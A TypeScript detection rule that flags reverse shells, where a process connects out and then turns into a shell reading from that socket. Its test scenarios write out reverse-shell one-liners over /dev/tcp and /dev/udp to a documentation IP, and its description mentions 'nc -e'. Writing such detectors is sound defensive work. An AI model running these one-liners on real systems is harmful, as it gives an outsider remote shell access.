import type { DetectionCase } from '../../model/detection-case.js';
import type { Process } from '../../model/process.js';
import { type Contact, contactsOf, isOpenAt } from '../contact.js';
import type { Draft } from '../draft.js';
import { replacedImage, type ShellStart, seconds, shellStarts } from '../lineage.js';
import { isMemoryOnly } from '../programs.js';
import { defineRule } from '../rule.js';
import { scenario } from '../scenario.js';
import { isCommandedByInput } from '../shell.js';
import { apart, command, contactEvidence, destination, imageEvidence, related, span } from '../wording.js';

/** The shell, or the program without a file, that took over the pid. */
interface Takeover extends Pick<ShellStart, 'process' | 'image' | 'place' | 'atUs'> {
  readonly isShell: boolean;
}

export const reverseShellSameProcess = defineRule({
  id: 'reverse-shell-same-process',
  title: 'Shell took over the process that had just connected',
  description:
    'A process connects to another host and then becomes a shell that reads its commands from its input, in the same pid. The connection is ' +
    'still open, so it is what the shell reads: `nc -e`, `exec bash`, the clone that bash makes for `bash -i >& /dev/tcp/…`, or a compiled ' +
    'program. A program executed from memory counts as a shell here.',
  level: 'critical',
  stage: 'shell',
  attack: ['T1059.004', 'T1095'],
  needs: ['connections'],
  options: {
    windowSeconds: { value: 30, description: 'Longest time from the connection to the shell. Observed: under half a second.' },
    datagramSeconds: { value: 2, description: 'Longest time from the start of a shell to its first datagram: a prompt sent over UDP.' },
  },
  falsePositives: [
    'A deployment agent that calls home and hands its socket to a shell in place: confirm its owner, then suppress by workload.',
  ],
  *run({ view, option, suspects }) {
    const window = seconds(option('windowSeconds'));
    const datagram = seconds(option('datagramSeconds'));
    for (const process of suspects.shellsWithSockets()) {
      for (const takeover of takeovers(process)) {
        const contact = commandingContact(view, takeover, window, datagram);
        if (contact !== undefined) yield draft(takeover, contact);
      }
    }
  },
  hits: [
    scenario(
      'bash redirects itself to a socket in a clone',
      `
      container web
      0       node server.js
      1200      bash -c "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
      1200.02     fork
      1200.03       > tcp 203.0.113.9:4444
      1200.04       => bash -i
      1201          id
    `,
    ),
    scenario(
      'a renamed tool becomes sh',
      `
      container web
      0       node server.js
      1200      /tmp/.nginx-worker
      1200.02     > tcp 10.0.9.9:9001
      1200.04     => /bin/sh
    `,
    ),
    scenario(
      'a prompt leaves as a datagram',
      `
      container web
      0       node server.js
      1200      bash -c "sh -i >& /dev/udp/203.0.113.9/4444 0>&1"
      1200.02     fork
      1200.04       => sh -i
      1200.05       > udp 203.0.113.9:4444
    `,
    ),
  ],
  nearMisses: [
    scenario(
      'a port check ends before the next shell',
      `
      container web
      0     bash start.sh
      5       bash -c "</dev/tcp/203.0.113.9/5432"
      5.1       fork
      5.11        > tcp 203.0.113.9:5432 until 5.12
      6       bash -c "true"
    `,
    ),
    scenario(
      'a script connects and runs another script in place',
      `
      container web
      0     bash wait-for-it.sh db:5432
      0.1     > tcp 203.0.113.7:5432
      1       => sh start.sh
    `,
    ),
  ],
});

function takeovers(process: Process): readonly Takeover[] {
  const shells = shellStarts(process).filter((start) => isCommandedByInput(start.kind));
  const fromMemory = process.images.flatMap((image, place) =>
    place > 0 && isMemoryOnly(image) && image.startedAtUs !== undefined && image.knownFrom === 'exec'
      ? [{ process, image, place, atUs: image.startedAtUs, isShell: false }]
      : [],
  );
  return [...shells.map((start) => ({ ...start, isShell: true })), ...fromMemory];
}

function commandingContact(view: DetectionCase, takeover: Takeover, window: number, datagram: number): Contact | undefined {
  return contactsOf(view, takeover.process).find((contact) => {
    const delay = takeover.atUs - contact.atUs;
    if (delay >= 0) return delay <= window && isOpenAt(contact.connection, takeover.atUs);
    return takeover.isShell && contact.connection.protocol === 'udp' && -delay <= datagram;
  });
}

function draft(takeover: Takeover, contact: Contact): Draft {
  const { process, image, place, atUs } = takeover;
  const where = destination(contact.connection);
  const before = replacedImage(process, place);
  const became = before === undefined ? 'the clone of its parent' : command(before);
  const distance =
    atUs >= contact.atUs ? `${apart(atUs - contact.atUs)} before it became` : `${apart(contact.atUs - atUs)} after it had become`;
  return {
    level: 'critical',
    title: `${command(image)} commanded from ${where}`,
    why: `pid ${process.pid}, ${became}, connected to ${where} ${distance} ${command(image)}; the connection was still open.`,
    process,
    ...span(contact.atUs, atUs),
    connections: [contact.connection],
    related: [related(process, 'shell')],
    evidence: [...contactEvidence(contact), ...imageEvidence(process, image)],
    members: [process.id],
  };
}
